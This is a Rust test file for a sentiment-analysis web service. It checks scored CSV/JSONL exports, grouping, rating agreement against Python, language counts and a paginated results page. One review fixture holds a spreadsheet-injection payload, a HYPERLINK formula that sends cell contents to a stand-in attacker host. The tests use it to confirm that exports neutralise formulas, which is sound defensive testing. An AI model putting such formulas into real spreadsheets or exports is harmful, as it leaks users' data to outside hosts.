//! What an analyst gets back: rows kept with their scores (and safe to open in a spreadsheet),
//! groups by a column or by date, agreement with the rows' own ratings (checked against Python),
//! languages other than English counted, and the results page that shows them.

use std::collections::BTreeMap;
use std::path::PathBuf;
use std::process::Command;

use serde_json::{Value, json};

use crate::common::{assert_error, spawn_app};

fn data(name: &str) -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data/vader")
        .join(name)
}

async fn get_text(app: &crate::common::Api, path: &str) -> String {
    let r = app.client.get(app.url(path)).send().await.unwrap();
    assert_eq!(r.status(), 200, "{path}");
    r.text().await.unwrap()
}

/// Submit a raw upload with query parameters and wait for it to succeed; returns (id, job).
async fn analysed(
    app: &crate::common::Api,
    content_type: &str,
    query: &str,
    body: &str,
) -> (String, Value) {
    let r = app
        .post_raw(
            &format!("/api/jobs{query}"),
            content_type,
            body.as_bytes().to_vec(),
        )
        .await;
    assert_eq!(r.status(), 202, "{:?}", r.text().await);
    let id = r.json::<Value>().await.unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let job = app.wait_final(&id).await;
    assert_eq!(job["status"], "succeeded", "{job}");
    (id, job)
}

fn csv_rows(body: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::Reader::from_reader(body.as_bytes());
    let header = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (header, rows)
}

const REVIEWS: &str = "review_id,rating,review,product\n\
    r1,5,\"Great, really great! I love it.\",apple\n\
    r2,1,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\",pear\n\
    r3,-2,Terrible and sad. Awful service.,apple\n\
    r4,4,\"@SUM(A1:A9) is a fine product, quite good\",pear\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_csv_comes_back_with_every_cell_its_scores_and_formulas_neutralised() {
    let app = spawn_app().await;
    let (id, job) = analysed(&app, "text/csv", "", REVIEWS).await;
    let result = &job["result"];
    assert_eq!(result["id_column"], "review_id", "{result}");
    assert_eq!(result["text_column"], "review");
    assert_eq!(
        result["columns"],
        json!(["review_id", "rating", "review", "product"])
    );
    assert_eq!(result["most_positive"][0]["id"], "r1");

    let body = get_text(&app, &format!("/api/jobs/{id}/items.csv")).await;
    let (header, rows) = csv_rows(&body);
    assert_eq!(
        header,
        [
            "review_id",
            "rating",
            "review",
            "product",
            "neg",
            "neu",
            "pos",
            "compound",
            "label",
            "lang"
        ]
    );
    assert_eq!(rows.len(), 4);
    assert_eq!(
        rows[0][..4],
        ["r1", "5", "Great, really great! I love it.", "apple"]
    );
    assert_eq!(rows[0][8], "positive");
    // The formula is text to a spreadsheet now; the negative rating is still a number.
    assert_eq!(
        rows[1][2],
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );
    assert_eq!(rows[2][1], "-2");
    assert_eq!(rows[2][8], "negative");
    assert!(rows[3][2].starts_with("'@SUM"));
    assert_eq!(rows[0][9], "en");
    // Scores as the report has them.
    let compound: f64 = rows[0][7].parse().unwrap();
    assert_eq!(
        compound,
        result["most_positive"][0]["compound"].as_f64().unwrap()
    );

    // JSONL of a CSV: the id column names each item; text is verbatim (no neutralising).
    let jsonl = get_text(&app, &format!("/api/jobs/{id}/items.jsonl")).await;
    let lines: Vec<Value> = jsonl
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines[1]["id"], "r2");
    assert!(lines[1]["text"].as_str().unwrap().starts_with("=HYPERLINK"));
    assert_eq!(lines[1]["sentiment"]["label"], "neutral");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_jsonl_line_comes_back_byte_for_byte_with_a_sentiment_object() {
    let app = spawn_app().await;
    let input = concat!(
        "{\"id\": 7, \"text\": \"I love this caf\\u00e9!\", \"meta\": {\"n\": 1.50, \"tags\": [\"a\"]}}\n",
        "\n",
        "  {\"text\": \"Dreadful.\", \"stars\": \"1\"}  \n"
    );
    let (id, job) = analysed(&app, "application/x-ndjson", "", input).await;
    let jsonl = get_text(&app, &format!("/api/jobs/{id}/items.jsonl")).await;
    let lines: Vec<&str> = jsonl.lines().collect();
    assert_eq!(lines.len(), 2);
    let original = [
        "{\"id\": 7, \"text\": \"I love this caf\\u00e9!\", \"meta\": {\"n\": 1.50, \"tags\": [\"a\"]}",
        "{\"text\": \"Dreadful.\", \"stars\": \"1\"",
    ];
    for (line, original) in lines.iter().zip(original) {
        assert!(line.starts_with(original), "{line}");
        assert!(
            line[original.len()..].starts_with(",\"sentiment\":{"),
            "{line}"
        );
        let v: Value = serde_json::from_str(line).unwrap();
        assert!(v["sentiment"]["compound"].is_f64());
    }
    let first: Value = serde_json::from_str(lines[0]).unwrap();
    assert_eq!(first["sentiment"]["label"], "positive");
    assert_eq!(first["meta"]["tags"][0], "a");
    // A rating key found by name ("stars") with a number held as text.
    assert_eq!(job["result"]["agreement"]["column"], "stars", "{job}");
    assert_eq!(job["result"]["agreement"]["pairs"], 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sentences_of_a_text_carry_their_code_point_offsets() {
    let app = spawn_app().await;
    let text = "Déjà vu 🙂 all over again! It was awful.\n\nÇa va? The café is wonderful.";
    let id = app.submit(&json!({ "text": text })).await;
    assert_eq!(app.wait_final(&id).await["status"], "succeeded");
    let body = get_text(&app, &format!("/api/jobs/{id}/items.csv")).await;
    let (header, rows) = csv_rows(&body);
    assert_eq!(header[..4], ["position", "sentence", "start", "end"]);
    assert_eq!(rows.len(), 4);
    let chars: Vec<char> = text.chars().collect();
    for row in &rows {
        let (start, end): (usize, usize) = (row[2].parse().unwrap(), row[3].parse().unwrap());
        let slice: String = chars[start..end].iter().collect();
        assert_eq!(slice, row[1], "{row:?}");
    }
    let jsonl = get_text(&app, &format!("/api/jobs/{id}/items.jsonl")).await;
    let last: Value = serde_json::from_str(jsonl.lines().last().unwrap()).unwrap();
    assert_eq!(last["sentence"], "The café is wonderful.");
    assert_eq!(last["end"].as_u64().unwrap() as usize, chars.len());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn grouping_by_a_column_gives_each_group_its_count_mean_and_interval() {
    let app = spawn_app().await;
    let mut csv = String::from("product,review\n");
    let reviews = [
        ("apple", "I love it, wonderful."),
        ("apple", "Great value, happy."),
        ("apple", "Good enough."),
        ("pear", "Awful. Broke at once."),
        ("pear", "Terrible, sad purchase."),
        ("plum", "It is a plum."),
    ];
    for (product, review) in reviews {
        csv.push_str(&format!("{product},\"{review}\"\n"));
    }
    let (id, job) = analysed(&app, "text/csv", "?group_by=product", &csv).await;
    let groups = &job["result"]["groups"];
    assert_eq!(groups["column"], "product", "{groups}");
    assert_eq!(groups["kind"], "values");
    let by_key: BTreeMap<String, Value> = groups["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| (g["key"].as_str().unwrap().to_owned(), g.clone()))
        .collect();
    assert_eq!(by_key["apple"]["count"], 3);
    assert_eq!(by_key["pear"]["count"], 2);
    assert_eq!(by_key["plum"]["count"], 1);
    assert!(by_key["plum"]["ci95"].is_null());
    assert_eq!(groups["groups"][0]["key"], "apple", "largest first");

    // The group means are the means of the items' own scores.
    let body = get_text(&app, &format!("/api/jobs/{id}/items.csv")).await;
    let (_, rows) = csv_rows(&body);
    let apple: Vec<f64> = rows
        .iter()
        .filter(|r| r[0] == "apple")
        .map(|r| r[5].parse().unwrap())
        .collect();
    let mean = apple.iter().sum::<f64>() / apple.len() as f64;
    assert!((by_key["apple"]["mean_compound"].as_f64().unwrap() - mean).abs() < 5e-5);
    let [lo, hi] = [0, 1].map(|i| by_key["apple"]["ci95"][i].as_f64().unwrap());
    assert!(lo < mean && mean < hi, "{lo} {mean} {hi}");

    // The page draws the groups and lists them.
    let page = get_text(&app, &format!("/analyses/{id}")).await;
    assert!(page.contains("id=\"group-bars\""));
    assert!(page.contains("id=\"groups-table\""));
    assert!(page.contains(">pear<"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn grouping_by_a_date_column_gives_a_time_series_in_periods_of_the_span() {
    let app = spawn_app().await;
    let mut csv = String::from("date,text\n");
    for day in 1..=10 {
        let mood = if day <= 5 {
            "\"Lovely, happy day.\""
        } else {
            "\"Sad, awful day.\""
        };
        // Timestamps in two forms a CSV export may hold.
        let cell = if day % 2 == 0 {
            format!("2026-03-{day:02}T10:15:00Z")
        } else {
            format!("03/{day:02}/2026")
        };
        csv.push_str(&format!("{cell},{mood}\n"));
    }
    let (_, job) = analysed(&app, "text/csv", "?group_by=date", &csv).await;
    let groups = &job["result"]["groups"];
    assert_eq!(groups["kind"], "dates", "{groups}");
    assert_eq!(groups["period"], "day");
    let keys: Vec<&str> = groups["groups"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["key"].as_str().unwrap())
        .collect();
    assert_eq!(keys.len(), 10);
    assert_eq!(keys[0], "2026-03-01");
    assert_eq!(keys[9], "2026-03-10");
    assert!(groups["groups"][0]["mean_compound"].as_f64().unwrap() > 0.0);
    assert!(groups["groups"][9]["mean_compound"].as_f64().unwrap() < 0.0);

    let (id, job) = analysed(
        &app,
        "text/csv",
        "?group_by=date&group_by_period=month",
        &csv,
    )
    .await;
    let groups = &job["result"]["groups"];
    assert_eq!(groups["period"], "month");
    assert_eq!(groups["groups"][0]["key"], "2026-03");
    assert_eq!(groups["groups"][0]["count"], 10);
    let page = get_text(&app, &format!("/analyses/{id}")).await;
    assert!(page.contains("id=\"group-series\""));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn named_columns_the_input_lacks_or_bad_ratings_are_refused_with_the_columns_listed() {
    let app = spawn_app().await;
    let post = |query: &'static str, content_type: &'static str, body: &'static str| {
        let app = &app;
        async move {
            app.post_raw(
                &format!("/api/jobs{query}"),
                content_type,
                body.as_bytes().to_vec(),
            )
            .await
        }
    };
    let message = assert_error(
        post("?group_by=brand", "text/csv", REVIEWS).await,
        422,
        "unknown_column",
    )
    .await;
    assert!(message.contains("\"brand\""), "{message}");
    assert!(
        message.contains("\"review_id\", \"rating\", \"review\", \"product\""),
        "{message}"
    );
    let message = assert_error(
        post("?rating_column=product", "text/csv", REVIEWS).await,
        422,
        "bad_record",
    )
    .await;
    assert!(
        message.contains("\"apple\"") && message.contains("not a number"),
        "{message}"
    );
    assert!(message.contains("line 2"), "{message}");
    let message = assert_error(
        post(
            "?id_column=nope",
            "application/x-ndjson",
            "{\"text\": \"hi\", \"k\": 1}\n",
        )
        .await,
        422,
        "unknown_column",
    )
    .await;
    assert!(
        message.contains("\"text\"") && message.contains("\"k\""),
        "{message}"
    );
    assert_error(
        post(
            "?group_by=product&group_by_period=year",
            "text/csv",
            REVIEWS,
        )
        .await,
        422,
        "invalid_period",
    )
    .await;
    assert_error(
        post("?group_by=x", "text/plain", "Just a document.").await,
        422,
        "unknown_column",
    )
    .await;
    // Nothing was written for any of them.
    assert_eq!(app.job_rows().await, 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn items_not_in_english_are_counted_flagged_and_marked() {
    let app = spawn_app().await;
    let mut csv = String::from("id,text\n");
    let english = [
        "The delivery was quick and the box was intact.",
        "I would not buy this again, it broke in a week.",
        "Customer service answered every question I had.",
        "The colour is exactly as shown in the pictures.",
        "It works well enough for the price, I suppose.",
        "Battery life is much shorter than advertised.",
        "My children love playing with it every evening.",
        "Setup took five minutes and everything worked.",
    ];
    let other = [
        "El servicio fue lento pero la comida estuvo deliciosa.",
        "No me gustó nada, llegó roto y tarde.",
        "서비스는 느렸지만 음식은 정말 훌륭했습니다.",
    ];
    for (i, t) in english.iter().chain(&other).enumerate() {
        csv.push_str(&format!("{i},\"{t}\"\n"));
    }
    csv.push_str("99,ok\n");
    let (id, job) = analysed(&app, "text/csv", "", &csv).await;
    let languages = &job["result"]["languages"];
    assert_eq!(languages["not_english"], 3, "{languages}");
    assert_eq!(languages["undetermined"], 1);
    let counts: BTreeMap<&str, u64> = languages["counts"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| (c["lang"].as_str().unwrap(), c["items"].as_u64().unwrap()))
        .collect();
    assert_eq!(counts, BTreeMap::from([("en", 8), ("es", 2), ("ko", 1)]));
    let warning = languages["warning"].as_str().unwrap();
    assert!(
        warning.contains("3 of 12 items") && warning.contains("es 2"),
        "{warning}"
    );

    let body = get_text(&app, &format!("/api/jobs/{id}/items.csv")).await;
    let (header, rows) = csv_rows(&body);
    assert_eq!(header.last().unwrap(), "lang");
    assert_eq!(rows[8].last().unwrap(), "es");
    assert_eq!(rows[10].last().unwrap(), "ko");
    assert_eq!(rows[11].last().unwrap(), "");
    let page = get_text(&app, &format!("/analyses/{id}")).await;
    assert!(page.contains("id=\"language-warning\""));

    // English only: no warning.
    let plain = english
        .iter()
        .enumerate()
        .map(|(i, t)| format!("{i},\"{t}\"\n"));
    let (_, job) = analysed(
        &app,
        "text/csv",
        "",
        &format!("id,text\n{}", plain.collect::<String>()),
    )
    .await;
    assert!(job["result"]["languages"]["warning"].is_null(), "{job}");
}

/// The reference compound of every id of a ground-truth set, and the rating each id has.
fn ground_truth(set: &str) -> Vec<(String, f64, String)> {
    std::fs::read_to_string(data(&format!("{set}_GroundTruth.txt")))
        .unwrap()
        .lines()
        .filter(|l| !l.trim().is_empty())
        .map(|l| {
            let mut parts = l.splitn(3, '\t');
            let id = parts.next().unwrap().to_owned();
            let rating = parts.next().unwrap().parse().unwrap();
            (id, rating, parts.next().unwrap().to_owned())
        })
        .collect()
}

/// Pearson, Spearman (average ranks for ties) and the mean compound per rating of the
/// reference scores, as Python's `statistics` computes them, independently of our analyzer.
const PYTHON_AGREEMENT: &str = r#"
import json, statistics, sys
from collections import defaultdict
rows = [json.loads(l) for l in open(sys.argv[1], encoding="utf-8") if l.strip()]
human = [r["human"] for r in rows]
compound = [r["compound"] for r in rows]
def ranks(values):
    order = sorted(range(len(values)), key=lambda i: values[i])
    out = [0.0] * len(values)
    i = 0
    while i < len(order):
        j = i
        while j + 1 < len(order) and values[order[j + 1]] == values[order[i]]:
            j += 1
        for k in range(i, j + 1):
            out[order[k]] = (i + j) / 2 + 1
        i = j + 1
    return out
by = defaultdict(list)
for h, c in zip(human, compound):
    by[repr(h)].append(c)
print(json.dumps({
    "pearson": round(statistics.correlation(human, compound), 4),
    "spearman": round(statistics.correlation(ranks(human), ranks(compound)), 4),
    "means": {k: round(statistics.mean(v), 4) for k, v in by.items()},
}))
"#;

#[test]
fn agreement_with_the_ground_truth_ratings_matches_python_to_four_decimals() {
    for set in ["tweets", "amazonReviewSnippets"] {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join(format!("{set}.csv"));
        let mut w = csv::Writer::from_path(&path).unwrap();
        w.write_record(["id", "human", "text"]).unwrap();
        for (id, rating, text) in ground_truth(set) {
            w.write_record([id, rating.to_string(), text]).unwrap();
        }
        w.flush().unwrap();
        let out = Command::new(env!("CARGO_BIN_EXE_sentiq"))
            .args([
                "analyze",
                path.to_str().unwrap(),
                "--rating-column",
                "human",
            ])
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        let ours = &report["agreement"];
        assert_eq!(ours["column"], "human");

        let python = Command::new("python3")
            .args(["-c", PYTHON_AGREEMENT])
            .arg(data(&format!("{set}_GroundTruth.reference.jsonl")))
            .output()
            .expect("python3 runs");
        assert!(
            python.status.success(),
            "{}",
            String::from_utf8_lossy(&python.stderr)
        );
        let theirs: Value = serde_json::from_slice(&python.stdout).unwrap();
        assert_eq!(ours["pairs"], ground_truth(set).len(), "{set}");
        assert_eq!(ours["pearson"], theirs["pearson"], "{set} Pearson");
        assert_eq!(ours["spearman"], theirs["spearman"], "{set} Spearman");
        let means = theirs["means"].as_object().unwrap();
        let by_rating = ours["by_rating"].as_array().unwrap();
        assert_eq!(by_rating.len(), means.len(), "{set}");
        for r in by_rating {
            // Python's repr of the rating is the shortest text that reads back as it, as
            // serde_json writes it (but Python keeps `.0` on whole numbers).
            let rating = r["rating"].as_f64().unwrap();
            let key = if rating.fract() == 0.0 {
                format!("{rating:.1}")
            } else {
                format!("{rating}")
            };
            assert_eq!(r["mean_compound"], means[&key], "{set} rating {key}");
        }
    }
}

#[test]
fn english_ground_truth_sets_stay_well_under_the_not_english_warning() {
    for (set, at_most) in [("tweets", 0.03), ("amazonReviewSnippets", 0.02)] {
        let items = ground_truth(set);
        let flagged = items
            .iter()
            .filter(|(_, _, text)| {
                sentiq::analysis::lang::detect(text).is_some_and(|lang| lang != "en")
            })
            .count();
        let share = flagged as f64 / items.len() as f64;
        assert!(
            share <= at_most,
            "{set}: {flagged} of {} flagged",
            items.len()
        );
        // And they are told English, not left undetermined.
        let english = items
            .iter()
            .filter(|(_, _, text)| sentiq::analysis::lang::detect(text) == Some("en"))
            .count();
        assert!(
            english * 100 >= items.len() * 95,
            "{set}: {english} English"
        );
    }
}

/// The rows of a status page's items table: (#, score, label) each.
fn table_rows(page: &str) -> Vec<(String, String, String)> {
    let Some(start) = page.find("id=\"items-table\"") else {
        return Vec::new();
    };
    let body = &page[start..];
    let body = &body[body.find("<tbody>").unwrap()..body.find("</tbody>").unwrap()];
    body.split("<tr>")
        .skip(1)
        .map(|row| {
            let cell = |from: &str, to: &str| {
                let at = row.find(from).unwrap() + from.len();
                let at = at + row[at..].find('>').unwrap() + 1;
                row[at..at + row[at..].find(to).unwrap()].to_owned()
            };
            (
                cell("<td class=\"pos-n\"", "</td>"),
                cell("<td class=\"score", "<span"),
                cell("<span class=\"sub\"", "</span>"),
            )
        })
        .collect()
}

/// A CSV of `n` rows of the tweets ground truth, with ids `t0`, `t1`, …
fn tweets_csv(n: usize) -> String {
    let mut csv = String::from("tweet_id,text\n");
    for (i, (_, _, text)) in ground_truth("tweets")
        .into_iter()
        .cycle()
        .take(n)
        .enumerate()
    {
        csv.push_str(&format!("t{i},\"{}\"\n", text.replace('"', "\"\"")));
    }
    csv
}

/// Every view of the items table of job `id` against the same view worked out from its
/// `items.csv`: each label, each order, the first, a middle and the last page, and past it.
async fn table_matches_the_download(api: &crate::common::Api, id: &str) {
    let r = api
        .client
        .get(api.url(&format!("/api/jobs/{id}/items.csv")))
        .send()
        .await
        .unwrap();
    let (header, rows) = csv_rows(&r.text().await.unwrap());
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (id_col, compound_col, label_col) = (col("tweet_id"), col("compound"), col("label"));
    let items: Vec<(usize, String, f64, String)> = rows
        .iter()
        .enumerate()
        .map(|(p, r)| {
            (
                p,
                r[id_col].clone(),
                r[compound_col].parse().unwrap(),
                r[label_col].clone(),
            )
        })
        .collect();
    for label in ["all", "positive", "neutral", "negative"] {
        for sort in ["position", "score_desc", "score_asc"] {
            let mut want: Vec<&(usize, String, f64, String)> = items
                .iter()
                .filter(|i| label == "all" || i.3 == label)
                .collect();
            match sort {
                "score_desc" => want.sort_by(|a, b| b.2.total_cmp(&a.2).then(a.0.cmp(&b.0))),
                "score_asc" => want.sort_by(|a, b| a.2.total_cmp(&b.2).then(a.0.cmp(&b.0))),
                _ => {}
            }
            let pages = want.len().div_ceil(50).max(1);
            for page in [1, pages.div_ceil(2), pages, pages + 7] {
                let path = format!("/analyses/{id}?sort={sort}&label={label}&page={page}");
                let html = get_text(api, &path).await;
                let got = table_rows(&html);
                let shown = page.min(pages);
                let expected: Vec<(String, String, String)> = want
                    .iter()
                    .skip((shown - 1) * 50)
                    .take(50)
                    .map(|i| (i.1.clone(), format!("{:+.4}", i.2), i.3.clone()))
                    .collect();
                assert_eq!(got, expected, "{path}");
                let pages_label = format!("of {}</span>", pages);
                assert!(
                    pages < 2 || html.contains(&pages_label),
                    "{path}: no “{pages_label}”"
                );
            }
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_items_table_pages_by_label_and_score_as_sorting_the_download_would() {
    let app = spawn_app().await;
    let (id, _) = analysed(&app, "text/csv", "", &tweets_csv(2600)).await;
    let chunks: i64 = sqlx::query_scalar("SELECT COUNT(*) FROM job_item_chunks WHERE job_id = $1")
        .bind(&id)
        .fetch_one(&app.pool)
        .await
        .unwrap();
    assert!(chunks >= 3, "pages must cross chunks: {chunks} chunk(s)");
    // The default view: input order, the first 50, a caption and links to the next pages.
    let html = get_text(&app, &format!("/analyses/{id}")).await;
    let rows = table_rows(&html);
    assert_eq!(rows.len(), 50);
    assert_eq!((rows[0].0.as_str(), rows[49].0.as_str()), ("t0", "t49"));
    assert!(html.contains("Rows 1–50 of 2,600, input order"), "{html}");
    assert!(html.contains(&format!(
        "href=\"/analyses/{id}?page=2#items\" rel=\"next\""
    )));
    assert!(html.contains(&format!(
        "href=\"/analyses/{id}?page=52#items\" rel=\"last\""
    )));
    table_matches_the_download(&app, &id).await;

    // Chunks stored before scores were kept beside them read the same (from their bodies).
    // Another job: the first one's index is cached now.
    let (id, _) = analysed(&app, "text/csv", "", &tweets_csv(2600)).await;
    sqlx::query(
        "UPDATE job_item_chunks SET ticks = NULL WHERE job_id = $1 AND last_position > 1000",
    )
    .bind(&id)
    .execute(&app.pool)
    .await
    .unwrap();
    table_matches_the_download(&app, &id).await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_items_table_pages_the_same_on_postgres() {
    let app = crate::common::prod::spawn_prod(|_| {}).await;
    let worker = app.worker();
    let (id, _) = analysed(&app, "text/csv", "", &tweets_csv(1200)).await;
    table_matches_the_download(&app, &id).await;
    worker.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_items_table_view_that_does_not_exist_is_a_400_saying_what_is_allowed() {
    let app = spawn_app().await;
    let (id, _) = analysed(&app, "text/csv", "", REVIEWS).await;
    for (query, says) in [
        (
            "sort=best",
            "“sort” must be one of position, score_desc, score_asc, not “best”.",
        ),
        (
            "label=happy",
            "“label” must be one of all, positive, neutral, negative, not “happy”.",
        ),
        ("page=0", "“page” must be a whole number from 1, not “0”."),
        (
            "page=two",
            "“page” must be a whole number from 1, not “two”.",
        ),
    ] {
        let r = app
            .client
            .get(app.url(&format!("/analyses/{id}?{query}")))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 400, "{query}");
        let html = r.text().await.unwrap();
        assert!(html.contains(says), "{query}: {html}");
        assert!(html.contains(&format!("href=\"/analyses/{id}\"")));
    }
    // One page: no pager; a label with no items says so.
    let html = get_text(
        &app,
        &format!("/analyses/{id}?label=neutral&sort=score_asc"),
    )
    .await;
    assert_eq!(table_rows(&html).len(), 1);
    assert!(!html.contains("rel=\"next\""));
    let html = get_text(&app, &format!("/analyses/{id}?label=negative")).await;
    assert!(
        html.contains("Negative rows 1–1 of 1, input order"),
        "{html}"
    );
}
